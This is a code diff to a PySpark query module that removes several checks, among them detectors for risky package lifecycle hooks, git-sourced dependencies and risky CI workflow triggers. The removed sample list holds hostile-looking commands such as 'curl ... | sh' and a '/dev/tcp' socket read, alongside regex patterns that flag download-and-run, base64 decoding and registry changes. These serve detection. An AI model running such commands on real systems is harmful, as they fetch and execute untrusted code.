@@ -325,17 +325,6 @@ def candidate_object_urls(spark, sf_dir):
     return u.where(F.col("url").rlike(OBJECT_URL)).distinct()
 
 
-@query("skip_source_rules", f"select page_id, {any_of('url', ['spam-farm', 'm.th'])} as skipped from pages")
-def skip_source_rules(spark, sf_dir):
-    return pages(spark, sf_dir).select("page_id", contains_any(F.col("url"), ["spam-farm", "m.th"]).alias("skipped"))
-
-
-@query("subdomain_filter", f"with h as (select distinct {HOST_SQL} as host from pages) select host from h where host = 'example.com' or ends_with(host, '.example.com')")
-def subdomain_filter(spark, sf_dir):
-    h = pages(spark, sf_dir).select(urls.host(F.col("url")).alias("host"))
-    return h.where((F.col("host") == "example.com") | F.col("host").endswith(".example.com")).distinct()
-
-
 PRIORITY = ["archive", "dns", "crawl"]
 
 
@@ -395,30 +384,6 @@ def mask_dep_spec(spark, sf_dir):
     return doc_values(spark, sf_dir, SPECS).select("doc_id", F.regexp_replace(F.trim("value"), AUTH, "$1://***@").alias("spec"))
 
 
-GIT_REF = r"(?i)^(?:github:|gitlab:|bitbucket:|git\+|git://|[\w.-]+/[\w.-]+(?:#.+)?$|https?://.*\.(?:tgz|tar\.gz)(?:[?#].*)?$)"
-
-
-@query("git_ref_deps", f"with {values_sql(SPECS)} select doc_id, value, case when doc_id % 2 = 0 then 'high' else 'medium' end as severity from v where {rlike('trim(value)', GIT_REF)}")
-def git_ref_deps(spark, sf_dir):
-    v = doc_values(spark, sf_dir, SPECS).where(F.trim("value").rlike(GIT_REF))
-    return v.withColumn("severity", F.when(F.col("doc_id") % 2 == 0, "high").otherwise("medium"))
-
-
-HOOKS = ["curl http://x/{n} | sh", "echo {h} | base64 -d", "node -e 'x'", "bun run build", "npm set registry http://r", "tsc -p .", "cat /dev/tcp/1.2.3.4/1"]
-DOWNLOAD, RUN = r"(?i)\b(?:curl|wget)\b|New-Object\s+Net\.WebClient|downloadString", r"(?i)\|\s*(?:sh|bash|node|python3?)\b|\b(?:sh|bash)\s+-c\b|\bIEX\b|Invoke-Expression"
-DANGER = [("decodes base64", r"(?i)base64\b[^|&;]*(?:-d|--decode)\b", "high"), ("raw socket", r"(?i)/dev/tcp/", "high"), ("inline code", r"(?i)\beval\s*\(|\bnode\s+(?:-e|--eval)\b", "high"), ("registry change", r"(?i)\bnpm_config_[a-z_]*registry\b|\bnpm\s+set\s+registry\b", "medium")]
-
-
-@query("lifecycle_hooks", f"with {values_sql(HOOKS)}, h as (select doc_id, case when {rlike('value', DOWNLOAD)} and {rlike('value', RUN)} then 'fetches and runs' " + " ".join(f"when {rlike('value', p)} then '{n}'" for n, p, _ in DANGER) + " end as label from v) select doc_id, label, case label when 'fetches and runs' then 'critical' when 'registry change' then 'medium' else 'high' end as severity from h where label is not null")
-def lifecycle_hooks(spark, sf_dir):
-    v = F.col("value")
-    label, severity = F.lit(None).cast("string"), F.lit("high")
-    for name, pattern, level in reversed(DANGER):
-        label, severity = F.when(v.rlike(pattern), name).otherwise(label), F.when(v.rlike(pattern), level).otherwise(severity)
-    both = v.rlike(DOWNLOAD) & v.rlike(RUN)
-    return doc_values(spark, sf_dir, HOOKS).select("doc_id", F.when(both, "fetches and runs").otherwise(label).alias("label"), F.when(both, "critical").otherwise(severity).alias("severity")).where("label is not null")
-
-
 USES = ["uses: actions/checkout@v4", "uses: a/b@{h}abcdef12", "uses: ./local", "uses: a/b", "run: echo {n}", "uses: docker://alpine:3"]
 
 
@@ -429,15 +394,6 @@ def workflow_pins(spark, sf_dir):
     return loose.withColumn("problem", F.when(~F.col("ref").contains("@"), "no ref").otherwise("not pinned"))
 
 
-TRIGGERS = ["on: [push, pull_request_target]", "on:\n  workflow_run:\n    x: {n}", "on: push", "on:\n  issue_comment:\n"]
-
-
-@query("workflow_triggers", f"with {values_sql(TRIGGERS)} select doc_id, regexp_extract(value, '\\b(pull_request_target|workflow_run|issue_comment)\\b', 1) as event from v where regexp_matches(value, '\\b(pull_request_target|workflow_run|issue_comment)\\b')")
-def workflow_triggers(spark, sf_dir):
-    event = F.regexp_extract("value", r"\b(pull_request_target|workflow_run|issue_comment)\b", 1)
-    return doc_values(spark, sf_dir, TRIGGERS).select("doc_id", event.alias("event")).where("event <> ''")
-
-
 CODE = r"""regexp_replace(regexp_replace(regexp_replace(text, '(?s)/\*.*?\*/', ' ', 'g'), '(?m)(?://|#)[^\n]*$', ' ', 'g'), '"[^"\n]*"|''[^''\n]*''', '""', 'g')"""
 CODE_SQL = f"trim(regexp_replace(lower({CODE}), '[ \\t\\n\\x0b\\f\\r]+', ' ', 'g'))"
 
